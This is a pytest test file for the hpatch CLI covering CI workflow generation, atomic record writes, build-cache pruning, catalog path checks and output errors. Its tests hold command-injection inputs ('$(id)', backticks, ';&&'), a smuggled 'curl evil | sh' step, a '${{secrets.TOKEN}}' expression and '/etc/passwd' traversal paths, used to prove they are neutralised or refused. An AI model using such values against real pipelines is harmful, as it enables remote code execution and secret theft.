"""Files hpatch writes and reads: CI workflows that carry any value safely, records
written whole, the build cache and the catalog read with one clear line when
damaged, and output that cannot be written. Offline: tiny real repositories, the
real CLI, real bash."""

from __future__ import annotations

import contextlib
import importlib
import json
import os
import random
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import CATALOG, Tiny, git, run_hpatch, snapshot
from ruamel.yaml import YAML

from hpatch import records, treebuild, yamltext
from hpatch.commands.cache import cache_prune
from hpatch.errors import HpatchError, UsageError
from hpatch.grading import Verdict
from hpatch.verify import CellResult


def one_error(result_err: str) -> str:
    """The run's stderr is exactly one `hpatch: error:` line (no traceback)."""
    lines = [ln for ln in result_err.splitlines() if not ln.startswith("hpatch: ")
             or ln.startswith("hpatch: error:")]
    assert len(lines) == 1 and lines[0].startswith("hpatch: error:"), result_err
    return lines[0]


# -- 5: CI workflows -------------------------------------------------------------------

def load_yaml(text: str) -> Any:
    return YAML(typ="safe").load(text)


# What each fake program prints: its name, then each argument on a line of its own
# between markers, so an argument with spaces, quotes or `#` shows exactly as received.
FAKES = "".join(f'{name}() {{ printf "<{name}>"; printf "[%s]" "$@"; echo; }}\n'
                for name in ("hpatch", "python3", "git", "apk"))


def run_shell(shell: str, script: str, env: dict[str, str]) -> list[str]:
    proc = subprocess.run([shell, "-e", "-c", FAKES + script], env={"PATH": os.environ["PATH"],
                          **env}, capture_output=True, text=True, check=False)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.splitlines()


def gh_eval(value: Any, matrix: dict[str, str]) -> str:
    """What GitHub makes of `${{ matrix.x }}` in an env value or input."""
    return re.sub(r"\$\{\{ matrix\.(\w+) \}\}", lambda m: matrix[m.group(1)], str(value))


BRANCHES = ["feat$(id)", "acme/2.6", "o'neil\"s`x`", "semi;colon&&"]
ODD_SOURCE = "/opt/hp #x: y 'q' $(id)"
ODD_ARGS = "--repeat 2 --note 'a: b $(id) #c' # fast"
ODD_WORDS = ["--repeat", "2", "--note", "a: b $(id) #c"]


def test_github_branch_workflow_carries_every_value_intact(tmp_path: Path) -> None:
    out = tmp_path / "hpatch.yml"
    result = run_hpatch("ci", "--emit", "github-actions", "--branches", ",".join(BRANCHES),
                        "--install-from", ODD_SOURCE, "--matrix-args", ODD_ARGS,
                        "--output", str(out))
    assert result.code == 0, result.err
    workflow = load_yaml(out.read_text())
    job = workflow["jobs"]["hpatch"]
    entries = job["strategy"]["matrix"]["include"]
    assert [e["branch"] for e in entries] == BRANCHES
    slugs = [e["slug"] for e in entries]
    assert len(set(slugs)) == len(slugs) and all(re.fullmatch(r"[\w.-]+", s) for s in slugs)
    for entry in entries:
        checkout = job["steps"][0]
        assert gh_eval(checkout["with"]["ref"], entry) == entry["branch"]
        seen = []
        for step in job["steps"]:
            if "run" not in step:
                continue
            assert "${{" not in step["run"]  # GitHub pastes expressions into the script
            env = {k: gh_eval(v, entry) for k, v in step.get("env", {}).items()}
            seen += run_shell("bash", step["run"], env)
        assert seen == [
            f"<python3>[-m][pip][install][{ODD_SOURCE}]",
            f"<hpatch>[verify][--repo][.][--junit-xml][hpatch-{entry['slug']}.xml]"
            + "".join(f"[{w}]" for w in ODD_WORDS)]
    schema_check(out, "vendor.github-workflows")


def test_github_release_workflow_passes_the_release_through_the_environment(
        tmp_path: Path) -> None:
    out = tmp_path / "hpatch.yml"
    result = run_hpatch("ci", "--emit", "github-actions", "--releases", "2.4.1,2.7.3",
                        "--install", 'pip install "hpatch: ours" # pinned',
                        "--matrix-args", "--jobs 2 # fast", "--output", str(out))
    assert result.code == 0, result.err
    job = load_yaml(out.read_text())["jobs"]["hpatch"]
    assert job["strategy"]["matrix"]["release"] == ["2.4.1", "2.7.3"]
    install, run = (s for s in job["steps"] if "run" in s)
    assert install["run"] == 'pip install "hpatch: ours" # pinned'  # the team's own line
    lines = run_shell("bash", run["run"], {k: gh_eval(v, {"release": "2.7.3"})
                                           for k, v in run["env"].items()})
    assert lines == ["<hpatch>[matrix][--releases][2.7.3][--verify][--junit-xml]"
                     "[hpatch-2.7.3.xml][--jobs][2]"]


@pytest.mark.parametrize("shell", ["bash", "sh"])
def test_gitlab_workflow_keeps_the_junit_option_and_every_value(tmp_path: Path,
                                                                 shell: str) -> None:
    branches = [b for b in BRANCHES if "$" not in b]
    out = tmp_path / "gitlab-ci.yml"
    result = run_hpatch("ci", "--emit", "gitlab", "--branches", ",".join(branches),
                        "--install-from", ODD_SOURCE, "--matrix-args", ODD_ARGS,
                        "--output", str(out))
    assert result.code == 0, result.err
    assert "left out the comment `# fast`" in result.err
    job = load_yaml(out.read_text())["hpatch"]
    entries = job["parallel"]["matrix"]
    assert [e["BRANCH"] for e in entries] == branches
    for entry in entries:
        env = {**job["variables"], **entry}
        lines = run_shell(shell, "\n".join(job["before_script"] + job["script"]), env)
        assert lines[1:] == [
            f"<python3>[-m][pip][install][{ODD_SOURCE}]",
            f"<git>[fetch][origin][{entry['BRANCH']}]",
            f"<git>[checkout][-B][{entry['BRANCH']}][FETCH_HEAD]",
            f"<hpatch>[verify][--repo][.][--junit-xml][hpatch-{entry['BRANCH_SLUG']}.xml]"
            + "".join(f"[{w}]" for w in ODD_WORDS)]
    schema_check(out, "vendor.gitlab-ci")


def test_gitlab_release_matrix_args_comment_does_not_drop_junit(tmp_path: Path) -> None:
    out = tmp_path / "gitlab-ci.yml"
    result = run_hpatch("ci", "--emit", "gitlab", "--releases", "2.4.1",
                        "--matrix-args", "--jobs 2 # fast", "--output", str(out))
    assert result.code == 0, result.err
    job = load_yaml(out.read_text())["hpatch"]
    [script] = job["script"]
    assert run_shell("sh", script, {"RELEASE": "2.4.1"}) == [
        "<hpatch>[matrix][--releases][2.4.1][--verify][--junit-xml][hpatch-2.4.1.xml]"
        "[--jobs][2]"]
    assert job["artifacts"]["reports"]["junit"] == "hpatch-$RELEASE.xml"


def schema_check(path: Path, schema: str) -> None:
    check = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema",
                            schema, str(path)], capture_output=True, text=True, check=False)
    assert check.returncode == 0, check.stdout + check.stderr


@pytest.mark.parametrize("args,text", [
    (("--emit", "github-actions", "--install", "pip install x\n- run: curl evil | sh"),
     "--install holds a control character"),
    (("--emit", "gitlab", "--install-from", "/opt/hp\r"), "--install-from holds a control"),
    (("--emit", "github-actions", "--branches", "a${{secrets.TOKEN}}",
      "--install-from", "x"), "GitHub Actions would evaluate"),
    (("--emit", "gitlab", "--branches", "feat$(id)", "--install-from", "x"),
     "GitLab expands variables"),
    (("--emit", "gitlab", "--branches", "-x", "--install-from", "x"), "no branch name"),
    (("--emit", "github-actions", "--matrix-args", "--note 'unbalanced"), "--matrix-args"),
    (("--emit", "github-actions", "--matrix-args", "--jobs 2\n--x"), "control character"),
])
def test_values_that_cannot_be_made_safe_are_refused(tmp_path: Path, args: tuple[str, ...],
                                                      text: str) -> None:
    out = tmp_path / "ci.yml"
    result = run_hpatch("ci", *args, "--output", str(out))
    assert result.code == 2, result.err
    assert text in one_error(result.err)
    assert not out.exists()


def test_yaml_writer_reads_back_exactly() -> None:
    """Every string, as value, key and list item, reads back as written (YAML 1.2, and
    1.1 where PyYAML is installed: GitHub and GitLab parsers differ in version)."""
    rng = random.Random(18)
    alphabet = "ab :#-\n\t\"'\\{}[]$()|>&*!%@`,?\r\x00\x7f\x85\u2028é yesnoON~.0123/=<_+eE"
    loaders = [load_yaml]
    with contextlib.suppress(ImportError):  # PyYAML: YAML 1.1, as GitHub reads it
        loaders.append(importlib.import_module("yaml").safe_load)
    samples = ["on", "yes", "3.11", "", " lead", "trail ", "a: b", "a #b", "- x", "~",
               "line\n  indented\n", "\n lead", "x:", "${{ matrix.x }}"]
    samples += ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 10)))
                for _ in range(250)]
    for text in samples:
        data = {"k": text, "l": [text, {text: [text]}], "m": {text: None}}
        dumped = yamltext.dump(data)
        for load in loaders:
            assert load(dumped) == data, (text, dumped)


# -- 10: records written whole, damaged ones read in one line ---------------------------

def _record(run_dir: Path) -> dict[str, Any]:
    return CellResult("TINY-1", "2.4.1", Verdict.VERIFIED, "ok", 1.0, str(run_dir)).as_dict()


def test_report_of_a_truncated_record_is_one_line(tmp_path: Path) -> None:
    runs = tmp_path / "hpatch-runs"
    good, cut = runs / "r1" / "TINY-1" / "2.4.1", runs / "r1" / "TINY-1" / "2.7.1"
    for cell in (good, cut):
        cell.mkdir(parents=True)
        records.write_json(cell / "result.json", _record(cell))
    text = (cut / "result.json").read_text()
    (cut / "result.json").write_text(text[: len(text) // 2])  # what a kill mid-write left
    result = run_hpatch("report", "r1")
    assert result.code == 1
    line = one_error(result.err)
    assert str(cut / "result.json") in line and "damaged" in line
    # a record without a verdict is damaged too, not an internal error
    (cut / "result.json").write_text(json.dumps({"fix": "TINY-1"}))
    result = run_hpatch("report", "r1")
    assert result.code == 1 and "damaged" in one_error(result.err)


def test_a_failed_write_leaves_the_old_record_and_no_temporary_file(tmp_path: Path) -> None:
    (tmp_path / "cell").mkdir()
    target = tmp_path / "cell" / "result.json"
    records.write_json(target, {"verdict": "verified"})
    with pytest.raises(UnicodeEncodeError):
        records.write_text(target, "half written \udc80 then the process died")
    assert json.loads(target.read_text()) == {"verdict": "verified"}
    assert [p.name for p in target.parent.iterdir()] == ["result.json"]
    plain = tmp_path / "plain"
    plain.write_text("x")  # the mode a plain write gives, under this umask
    assert target.stat().st_mode & 0o777 == plain.stat().st_mode & 0o777


def test_written_through_a_link_and_into_a_pipe(tmp_path: Path) -> None:
    target, link = tmp_path / "target.yml", tmp_path / "link.yml"
    link.symlink_to(target)
    records.write_text(link, "a: 1\n")
    assert link.is_symlink() and target.read_text() == "a: 1\n"
    proc = subprocess.run([sys.executable, "-m", "hpatch", "ci", "--emit", "gitlab",
                           "--releases", "2.4.1", "--output", "/dev/stdout"],
                          capture_output=True, text=True, check=False)
    assert proc.returncode == 0, proc.stderr
    assert load_yaml(proc.stdout)["stages"] == ["verify"]


def test_damaged_matrix_memo_and_build_entry_are_not_reused(tmp_path: Path) -> None:
    from hpatch import matrix
    memo = tmp_path / "memo.json"
    memo.write_text('{"fix": "TINY-1", "verd')
    assert matrix._earlier(memo) is None
    records.write_json(memo, _record(tmp_path))
    earlier = matrix._earlier(memo)
    assert earlier is not None and earlier.verdict is Verdict.VERIFIED
    spec = treebuild.BuildSpec("0" * 40, "2.4.1", (), (), False, ("install",), "img")
    entry = treebuild.root() / spec.key()
    entry.mkdir(parents=True)
    (entry / treebuild.ENTRY).write_text('{"jars": {')
    assert treebuild.lookup(spec) is None


# -- 11: the build cache ------------------------------------------------------------

def _cache_with_entries(cache: Path) -> dict[str, Path]:
    builds = cache / "builds"
    made = {}
    for name, meta in (("a" * 64, {"version": "2.4.1", "modules": [], "native": False,
                                   "jars": {}}),
                       ("b" * 64, {"version": "2.7.3", "modules": [], "native": True,
                                   "jars": {}}),
                       ("c" * 64, None)):
        path = builds / name
        (path / "jars").mkdir(parents=True)
        (path / "jars" / "x.jar").write_bytes(b"\0" * 4096)
        (path / treebuild.ENTRY).write_text(json.dumps(meta) if meta else '{"version": "2.')
        made[name[0]] = path
    return made


@pytest.mark.parametrize("max_gib,days,text", [
    (-1.0, None, "--max-size must be a number of GiB from 0"),
    (float("nan"), None, "--max-size must be a number of GiB from 0"),
    (float("inf"), None, "--max-size must be a number of GiB from 0"),
    (None, -1.0, "--older-than must be a number of days from 0"),
    (None, float("nan"), "--older-than must be a number of days from 0"),
])
def test_prune_refuses_bounds_that_would_empty_the_cache(
        tmp_path: Path, max_gib: float | None, days: float | None, text: str) -> None:
    made = _cache_with_entries(tmp_path / "hpatch-cache")
    with pytest.raises(UsageError, match=re.escape(text)):
        cache_prune(max_gib=max_gib, older_than_days=days, everything=False)
    assert all(p.is_dir() for p in made.values())


def test_negative_prune_bound_is_one_line_and_removes_nothing(tmp_path: Path) -> None:
    made = _cache_with_entries(tmp_path / "hpatch-cache")
    for args in (("--max-size", "-1"), ("--older-than", "-0.5")):
        result = run_hpatch("cache", "prune", *args)
        assert result.code == 2 and "must be a number" in one_error(result.err)
    assert all(p.is_dir() for p in made.values())


def test_damaged_entry_is_listed_as_such_and_pruned(tmp_path: Path) -> None:
    made = _cache_with_entries(tmp_path / "hpatch-cache")
    listed = run_hpatch("cache", "ls")
    assert listed.code == 0, listed.err
    assert "damaged" in listed.out and "1 damaged build(s)" in listed.err
    as_json = run_hpatch("cache", "ls", "--json")
    assert as_json.code == 0, as_json.err
    damaged = {e["key"][0]: e["damaged"] for e in json.loads(as_json.out)}
    assert damaged["a"] is None and damaged["b"] is None and "entry.json" in damaged["c"]
    pruned = run_hpatch("cache", "prune")
    assert pruned.code == 0, pruned.err
    assert "removed 1 build(s)" in pruned.out
    assert made["a"].is_dir() and made["b"].is_dir() and not made["c"].exists()


@pytest.mark.parametrize("value", ["inf", "-inf", "nan", "1e400", "-3", "lots"])
def test_build_cache_bound_from_the_environment_is_checked(
        monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    monkeypatch.setenv("HPATCH_BUILD_CACHE_MAX", value)
    with pytest.raises(HpatchError, match="HPATCH_BUILD_CACHE_MAX must be a number of GiB"):
        treebuild.max_bytes()


def test_infinite_build_cache_bound_is_one_line(tmp_path: Path) -> None:
    made = _cache_with_entries(tmp_path / "hpatch-cache")
    for verb in ("ls", "prune"):
        result = run_hpatch("cache", verb, env={"HPATCH_BUILD_CACHE_MAX": "inf"})
        assert result.code == 1
        assert "HPATCH_BUILD_CACHE_MAX must be a number of GiB" in one_error(result.err)
    assert all(p.is_dir() for p in made.values())


# -- 12: the catalog ----------------------------------------------------------------

def test_variant_patch_of_another_fix_is_never_applied(tiny: Tiny) -> None:
    other = tiny.catalog / "OTHER-1"
    (other / "variants").mkdir(parents=True)
    shutil.copy(tiny.catalog / "TINY-1" / "variants" / "2.4.patch", other / "variants")
    (tiny.catalog / "TINY-1" / "variants" / "2.4.patch").unlink()
    variants = tiny.catalog / "TINY-1" / "variants.toml"
    variants.write_text(variants.read_text().replace(
        'patch = "variants/2.4.patch"', 'patch = "../OTHER-1/variants/2.4.patch"'))
    before = snapshot(tiny.repo)
    applied = tiny.hpatch("apply", "TINY-1", "--repo", str(tiny.repo))
    assert applied.code == 1
    assert "leaves the folder of TINY-1" in one_error(applied.err)
    assert snapshot(tiny.repo) == before
    shutil.rmtree(other)
    lint = tiny.hpatch("lint")
    assert lint.code == 1 and "leaves the folder of TINY-1" in lint.out


@pytest.mark.parametrize("name", ["/etc/passwd", "variants/../../OTHER-1/x.patch"])
def test_variant_patch_path_must_stay_in_its_folder(catalog_copy: Path, name: str) -> None:
    variants = catalog_copy / "HDFS-9812" / "variants.toml"
    variants.write_text(variants.read_text().replace('"variants/2.3.patch"', json.dumps(name)))
    lint = run_hpatch("lint", env={"HPATCH_CATALOG": str(catalog_copy)})
    assert lint.code == 1 and "leaves the folder of HDFS-9812" in lint.out


def test_catalog_kept_in_git_lints_clean(catalog_copy: Path) -> None:
    git(catalog_copy, "init", "-q")
    git(catalog_copy, "add", "-A")
    git(catalog_copy, "commit", "-qm", "our catalog")
    (catalog_copy / ".github" / "workflows").mkdir(parents=True)
    (catalog_copy / ".github" / "workflows" / "lint.yml").write_text("on: push\n")
    (catalog_copy / ".vscode").mkdir()
    lint = run_hpatch("lint", env={"HPATCH_CATALOG": str(catalog_copy)})
    assert lint.code == 0, lint.out + lint.err
    assert "catalog OK" in lint.out


def test_fix_toml_that_is_a_directory_is_named(catalog_copy: Path, tiny: Tiny) -> None:
    entry = catalog_copy / "HDFS-6364"
    (entry / "fix.toml").unlink()
    (entry / "fix.toml").mkdir()
    env = {"HPATCH_CATALOG": str(catalog_copy)}
    listed = run_hpatch("list", env=env)
    assert listed.code == 1
    assert str(entry / "fix.toml") in one_error(listed.err) and "directory" in listed.err
    status = run_hpatch("status", "--repo", str(tiny.repo), env=env)
    assert status.code == 1 and "HDFS-6364" in one_error(status.err)
    lint = run_hpatch("lint", env=env)
    assert lint.code == 1 and "fix.toml is a directory" in lint.out


# -- 13 and 16: where hpatch writes ---------------------------------------------------

@pytest.mark.parametrize("inside", [False, True])
def test_cache_naming_a_file_is_one_line(tmp_path: Path, inside: bool) -> None:
    a_file = tmp_path / "not-a-dir"
    a_file.write_text("x\n")
    cache = a_file / "sub" if inside else a_file
    for args in [("cache", "ls")] + ([] if inside else [("status", "--release", "2.4.1")]):
        result = run_hpatch(*args, env={"HPATCH_CACHE": str(cache)})
        assert result.code == 1, result.err
        assert "HPATCH_CACHE" in one_error(result.err) and "Traceback" not in result.err


needs_dev_full = pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full")


@needs_dev_full
def test_output_into_a_full_device_is_one_line(tiny: Tiny) -> None:
    for args in (("list",), ("list", "--json"),
                 ("status", "--json", "--repo", str(tiny.repo))):
        with open("/dev/full", "w") as full:
            proc = subprocess.run([sys.executable, "-m", "hpatch", *args], stdout=full,
                                  stderr=subprocess.PIPE, text=True, check=False,
                                  env={**os.environ, "HPATCH_CATALOG": str(tiny.catalog)
                                       if args[0] == "status" else str(CATALOG)})
        assert proc.returncode == 1, proc.stderr
        assert "No space left on device" in one_error(proc.stderr)


def test_ci_output_naming_a_directory_is_one_line(tmp_path: Path) -> None:
    workflows = tmp_path / "workflows"
    workflows.mkdir()
    result = run_hpatch("ci", "--emit", "gitlab", "--output", str(workflows))
    assert result.code == 2
    assert "is a directory" in one_error(result.err)
    assert list(workflows.iterdir()) == []


def test_reader_that_left_ends_the_output_quietly() -> None:
    """`hpatch list | head -0`: the pipe is closed before hpatch writes."""
    read, write = os.pipe()
    os.close(read)
    proc = subprocess.run([sys.executable, "-m", "hpatch", "list"], stdout=write,
                          stderr=subprocess.PIPE, text=True, check=False,
                          env={**os.environ, "HPATCH_CATALOG": str(CATALOG)})
    os.close(write)
    # quiet, with the status of a process SIGPIPE ended (as `yes | head` leaves `yes`)
    assert proc.returncode == 141 and proc.stderr == ""


def test_diagnose_whose_reader_left_exits_as_sigpipe_would(tmp_path: Path) -> None:
    """`hpatch diagnose LOG | head -1`: not 65, which would say the catalog is broken."""
    corpus = Path(__file__).parent / "fixtures" / "diagnose-corpus"
    log = tmp_path / "big.log"
    log.write_text("".join(p.read_text() for p in sorted(corpus.glob("pos-*"))) * 50)
    read, write = os.pipe()
    os.close(read)
    proc = subprocess.run([sys.executable, "-m", "hpatch", "diagnose", str(log)], stdout=write,
                          stderr=subprocess.PIPE, text=True, check=False,
                          env={**os.environ, "HPATCH_CATALOG": str(CATALOG)})
    os.close(write)
    assert proc.returncode == 141 and proc.stderr == ""
